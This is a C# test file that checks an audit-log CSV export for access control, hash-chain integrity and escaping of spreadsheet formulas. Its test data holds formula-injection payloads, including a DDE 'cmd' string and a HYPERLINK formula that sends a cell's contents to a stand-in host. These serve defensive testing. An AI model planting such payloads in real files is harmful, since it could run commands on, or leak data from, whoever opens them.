using System.Globalization;
using System.Net;
using Anshimi.CloudBridge.Api;
using Anshimi.CloudBridge.Audit;
using Anshimi.CloudBridge.Operators;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;

namespace Anshimi.CloudBridge.Tests.Audit;

/// <summary>
/// The audit export over real HTTP: central staff only, audited itself, formulas neutralised, and verifiable from the
/// file alone (after dropping the formula escape).
/// </summary>
public sealed class AuditExportTests : IAsyncLifetime
{
    private readonly FakeMqttClient _mqtt = new();
    private CloudBridgeHost _host = null!;

    public async Task InitializeAsync() => _host = await CloudBridgeHost.StartAsync(_mqtt);

    public async Task DisposeAsync() => await _host.DisposeAsync();

    [Fact]
    public async Task The_exported_file_carries_every_field_so_the_chain_recomputes_from_it()
    {
        AuditLog log = _host.Services.GetRequiredService<AuditLog>();
        // Fields a spreadsheet or a naive reader would mangle: separators, quotes, line breaks, a formula.
        await log.AppendAsync(new AuditEntry("central-op", "note", "00000001:1", "11680", "done", "a, \"quoted\" note\r\nover two lines"), CancellationToken.None);
        await log.AppendAsync(new AuditEntry("=HYPERLINK(\"x\")", "note", "", "", "done", " padded "), CancellationToken.None);

        using HttpResponseMessage response = await _host.Http.GetAsync(new Uri("/api/audit/export", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        string text = await response.Content.ReadAsStringAsync();

        List<string[]> records = Read(text);
        Assert.Equal(AuditEndpoints.ExportColumns, records[0]);
        List<string[]> rows = records[1..];
        IReadOnlyList<AuditRecord> stored = await log.ListAsync(int.MaxValue, null, CancellationToken.None);
        Assert.Equal(stored.Count - 1, rows.Count); // the export's own entry comes after it is read
        string previous = AuditLog.Genesis;
        foreach (string[] row in rows.Select(r => r.Select(Unescape).ToArray()))
        {
            var entry = new AuditEntry(row[2], row[3], row[4], row[5], row[6], row[7]);
            DateTimeOffset at = DateTimeOffset.Parse(row[1], CultureInfo.InvariantCulture, DateTimeStyles.RoundtripKind);
            Assert.Equal(previous, row[8]);
            Assert.Equal(row[9], AuditLog.HashOf(long.Parse(row[0], CultureInfo.InvariantCulture), at, entry, row[8]));
            previous = row[9];
        }

        Assert.Contains(rows, r => r[7] == "a, \"quoted\" note\r\nover two lines");
        Assert.Contains(rows, r => r[2] == "'=HYPERLINK(\"x\")" && r[7] == " padded ");
        AuditRecord export = (await log.ListAsync(1, null, CancellationToken.None))[0];
        Assert.Equal((AuditAction.Export, TestOperators.Central.UserName, "rows=" + rows.Count.ToString(CultureInfo.InvariantCulture)), (export.Entry.Action, export.Entry.Actor, export.Entry.Detail));
    }

    [Fact]
    public async Task A_district_operator_cannot_export_and_nothing_is_written_for_the_attempt()
    {
        AuditLog log = _host.Services.GetRequiredService<AuditLog>();
        using HttpClient gangnam = await _host.SignedInAsync(TestOperators.Gangnam);
        long before = (await log.ListAsync(int.MaxValue, null, CancellationToken.None)).Count;

        Assert.Equal(HttpStatusCode.Forbidden, (await gangnam.GetAsync(new Uri("/api/audit/export", UriKind.Relative))).StatusCode);

        Assert.DoesNotContain(await log.ListAsync(int.MaxValue, null, CancellationToken.None), r => r.Entry.Action == AuditAction.Export);
        Assert.Equal(before, (await log.ListAsync(int.MaxValue, null, CancellationToken.None)).Count);
    }

    [Fact]
    [Trait("Category", "Privacy")]
    public async Task A_user_name_that_is_a_formula_reaches_the_export_as_text_whatever_it_starts_with()
    {
        const string hyperlink = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";
        using HttpClient anonymous = _host.Client();
        using HttpResponseMessage refused = await anonymous.PostAsync(new Uri("/api/session", UriKind.Relative),
            System.Net.Http.Json.JsonContent.Create(new { userName = hyperlink, password = "wrong-password-123" }));
        Assert.False(refused.IsSuccessStatusCode);
        // Failed sign-ins reach the log in batches; write this one now rather than at the next interval.
        await _host.Services.GetRequiredService<SignInFailureAudit>().FlushAsync(CancellationToken.None);
        // Other fields a spreadsheet would run, in every column the log has.
        string[] formulas = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
        AuditLog log = _host.Services.GetRequiredService<AuditLog>();
        foreach (string formula in formulas)
        {
            await log.AppendAsync(new AuditEntry(formula, formula, formula, formula, formula, formula), CancellationToken.None);
        }

        string text = await _host.Http.GetStringAsync(new Uri("/api/audit/export", UriKind.Relative));

        List<string[]> rows = Read(text)[1..];
        // The failed sign-in is recorded under the name as typed (normalised); in the file it starts with ' and shows as text.
        Assert.Contains(rows, r => r[2] == "'" + OperatorAccountStore.Normalize(hyperlink) && r[3] == AuditAction.SignInFailed);
        foreach (string formula in formulas)
        {
            Assert.Contains(rows, r => r[2..8].All(field => field == "'" + formula));
        }

        Assert.All(rows.SelectMany(r => r), field => Assert.False(field.Length > 0 && "=+-@\t\r".Contains(field[0], StringComparison.Ordinal), field));
    }

    /// <summary>Drops the export's formula escape, giving the field as stored and hashed.</summary>
    private static string Unescape(string field) =>
        field.Length >= 2 && field[0] == '\'' && "=+-@\t\r".Contains(field[1], StringComparison.Ordinal) ? field[1..] : field;

    private static List<string[]> Read(string text)
    {
        var records = new List<string[]>();
        using CsvReader csv = CsvReader.FromText(text, new CsvReaderOptions { Mode = CsvMode.Rfc4180, Separator = ',', DetectSeparatorHint = false, HasHeader = false });
        while (csv.Read())
        {
            records.Add(csv.Current.ToArray());
        }

        return records;
    }
}
